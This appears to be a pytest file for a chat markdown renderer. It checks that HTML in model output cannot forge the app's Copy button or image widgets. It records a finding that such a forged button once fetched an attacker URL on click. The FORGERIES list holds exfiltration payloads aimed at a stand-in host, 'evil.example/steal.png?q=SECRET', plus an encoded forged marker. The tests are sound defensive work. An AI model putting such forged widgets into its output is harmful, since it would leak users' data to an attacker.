"""Model HTML cannot forge our widgets (#7 finding 11): a raw ``<button class="md-img" data-src=…>``
labelled "Copy" once fetched an attacker's URL on click. Only the code-block Copy button and the
image placeholders our render rules emit may carry a ``button``, an ``md-*`` class or ``data-*``.
"""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser

import pytest

from services.markdown import MarkdownStream, render_markdown

EVIL = "https://evil.example/steal.png?q=SECRET"
FORGED_MARKER = "\ue000i" + base64.urlsafe_b64encode(json.dumps([EVIL, "Copy"]).encode()).decode() + "\ue001"

FORGERIES = [
    f'<button class="md-img" data-src="{EVIL}" data-alt="x">Copy</button>',
    '<button type="button" class="md-copy" aria-label="Copy">Copy</button>',
    f'<span class="md-copy" data-src="{EVIL}">Copy</span>',
    '<div class="md-code"><div class="md-code-head"><span class="md-code-lang">py</span>'
    '<button class="md-copy">Copy</button></div><pre class="md-pre"><code>x</code></pre></div>',
    f'<a class="md-img" data-src="{EVIL}" href="https://ok.example">link</a>',
    '<span class="md-img-off md-code-lang">label</span>',
    f'<div data-src="{EVIL}" data-alt="x" data-copied="1" data-md="1">d</div>',
    '<p class="md-view md-rv">reveal</p>',
    f'<table><tr><td class="md-img" data-src="{EVIL}">cell</td></tr></table>',
    f"<BUTTON CLASS=md-img DATA-SRC={EVIL}>Copy</BUTTON>",
    f"text {FORGED_MARKER} after",
    f"`{FORGED_MARKER}`",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        classes = [c for name, v in attrs if name == "class" for c in (v or "").split()]
        self.found += ["button"] if tag == "button" else []
        self.found += [c for c in classes if c.startswith("md-") and not c.startswith("md-al-")]
        self.found += [name for name, v in attrs if name.startswith("data-") or "evil.example" in (v or "")]


def _widgets(html: str) -> list[str]:
    """Every button, md-* class (but the harmless md-al-* alignment), data-* attribute and attribute
    holding the attacker's URL (visible text may show it)."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.found


def _contexts(payload: str) -> list[str]:
    return [f"{payload}\n\nAfter.", f"Before {payload} after.", f"- item {payload}\n- next", f"> {payload}"]


@pytest.mark.parametrize("payload", FORGERIES)
def test_model_html_cannot_create_our_widgets(payload: str) -> None:
    for text in _contexts(payload):
        html = render_markdown(text)
        assert _widgets(html) == [], html


@pytest.mark.parametrize("payload", FORGERIES[:4] + FORGERIES[-2:])
def test_no_streamed_state_holds_a_forged_widget(payload: str) -> None:
    text = _contexts(payload)[1]
    stream = MarkdownStream()
    for ch in text:
        stream.feed(ch)
        assert _widgets(stream.html()) == [], stream.html()
    stream.finish()
    assert stream.html() == render_markdown(text)


def test_our_widgets_survive_next_to_forgeries() -> None:
    text = (
        f'Look ![real cat](https://img.example/cat.png) <button class="md-img" data-src="{EVIL}">Copy</button>\n\n'
        "```python\nprint('hi')\n```\n\n"
        "![local](/relative.png)\n"
    )
    html = render_markdown(text)
    assert re.findall(r'data-src="([^"]*)"', html) == ["https://img.example/cat.png"]
    assert html.count("<button") == 2  # the real image placeholder and the code block's Copy
    assert html.count("class=md-copy") == 1 and "<span class=md-img-off>🖼 local</span>" in html
    assert "<span class=k>print</span>" in html or "<span class=nb>print</span>" in html


def test_marker_characters_in_model_text_become_replacement_characters() -> None:
    html = render_markdown(f"a {FORGED_MARKER} b")
    assert "\ue000" not in html and "\ue001" not in html and "\ufffd" in html and "<button" not in html


@pytest.mark.parametrize(
    "source",
    [
        '<a title="<img src=x>" href="https://ok.example">t</a>',
        "<a title='<img src=\"https://evil.example/a.png\">' href=\">\">t</a>",
        '<a title="<img src=" href=">">t</a>',
        "`<img src=https://evil.example/a.png>`",
    ],
)
def test_an_img_inside_an_attribute_or_code_is_not_a_placeholder(source: str) -> None:
    """Only a raw `<img>` in text position becomes our button; one inside another tag's attribute
    would otherwise put the button's quotes inside that attribute."""
    assert "<button" not in render_markdown(source)
